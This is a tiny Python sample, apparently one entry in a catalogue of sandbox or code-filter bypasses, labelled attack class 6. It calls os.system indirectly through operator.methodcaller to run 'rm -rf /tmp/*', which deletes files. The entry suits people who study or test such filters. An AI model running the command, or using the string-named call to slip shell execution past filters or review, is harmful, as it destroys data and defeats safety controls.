# attack-class: 6
# title: operator.methodcaller('system', cmd)
# why: methodcaller calls a method named by a string

import operator
import os

operator.methodcaller("system", "rm -rf /tmp/*")(os)
